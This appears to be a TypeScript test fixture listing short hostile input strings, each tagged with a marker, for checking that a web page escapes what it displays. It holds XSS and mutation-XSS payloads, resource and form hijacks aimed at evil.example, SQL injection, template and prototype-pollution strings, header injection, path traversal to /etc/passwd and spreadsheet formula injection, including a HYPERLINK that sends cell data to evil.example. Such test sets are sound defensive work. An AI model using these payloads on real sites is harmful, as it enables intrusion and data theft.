/** Part of every text below, so that a test finds the texts that a page shows. */
export const MARK = 'zzx';

/**
 * Texts that try to run code, to change the page or the query around them, or to break the layout. A script that runs
 * calls `boom`. They are short, so that most fields accept them.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  // Tags, attributes, and ends of the element, attribute, comment or script around the text.
  `${MARK}<script>boom()</script>`,
  `${MARK}<img src=x onerror=boom()>`,
  `${MARK}"><svg onload=boom()>`,
  `${MARK}' onmouseover='boom()' autofocus onfocus='boom()`,
  `${MARK}</title></textarea></script><script>boom()</script>`,
  `${MARK}--><img src=x onerror=boom()><!--`,
  `${MARK}]]><svg><script>boom()</script></svg>`,
  `${MARK}<details open ontoggle=boom()>x`,
  `${MARK}<iframe srcdoc="<script>parent.boom()</script>">`,
  `${MARK}<style>@import"//evil.example/x.css"</style>`,
  `${MARK}<base href="https://evil.example/">`,
  `${MARK}<link rel=stylesheet href=//evil.example/a.css>`,
  `${MARK}<meta http-equiv=refresh content="0;url=//evil.example">`,
  `${MARK}<img src=https://evil.example/p.gif>`,
  `${MARK}<form action=//evil.example><button>x`,
  // HTML that browsers parse differently the second time.
  `${MARK}<noscript><p title="</noscript><img src=x onerror=boom()>">`,
  `${MARK}<svg></p><style><a id="</style><img src=1 onerror=boom()>">`,
  `${MARK}<math><mtext><style><!--</style><img title="--&gt;<img src=1 onerror=boom()>">`,
  `${MARK}&lt;img src=x onerror=boom()&gt;`,
  `${MARK}\\u003cscript\\u003eboom()\\u003c/script\\u003e`,
  // Addresses.
  `javascript:boom()//${MARK}`,
  `data:text/html,<script>boom()</script>${MARK}`,
  `//evil.example/${MARK}`,
  `https://${MARK}@evil.example/`,
  // Templates, formats and queries.
  `${MARK}{{constructor.constructor("boom()")()}}`,
  `${MARK}\${boom()}<%= boom() %>#{boom()}$&$1%s%n`,
  `${MARK}'; DROP TABLE users; --`,
  `${MARK}' OR '1'='1' UNION SELECT password FROM users--`,
  `${MARK}%' ESCAPE '\\' _%`,
  `__proto__ ${MARK} constructor prototype`,
  `${MARK}\r\nBcc: a@evil.example\r\nSet-Cookie: a=b`,
  `../../../../etc/passwd ${MARK}`,
  // Formulas of spreadsheets.
  `=HYPERLINK("https://evil.example/?"&A1,"${MARK}")`,
  `+${MARK}|' /C calc'!A0`,
  `@SUM(1+1)*cmd|'${MARK}'!A0`,
  // Letters that change the order of others, have no width, or pile up.
  `${MARK} \u202egnp.exe\u202c \u2066trái\u2069 \u200f`,
  `${MARK}\u200b\u200c\u200d\ufeff\u2060trống`,
  `${MARK}Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f`,
  `${MARK} 👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 ﷽𒐫`,
  // Words that do not break.
  `${MARK}${'W'.repeat(57)}`,
  `${MARK}${'Đ'.repeat(97)}`,
  `${MARK}${'m'.repeat(197)}`,
  `${MARK}${'W'.repeat(10_000)}`,
  // Texts that no field stores.
  `${MARK}\u0000boom`,
  `${MARK}\ud800`,
];

/** For fields that exist only once: as many of the texts above as fit in 100 characters. */
export const ONE_TEXT = `${MARK}"'><img src=x onerror=boom()>{{boom()}}\u202e</script>${'W'.repeat(30)}`;
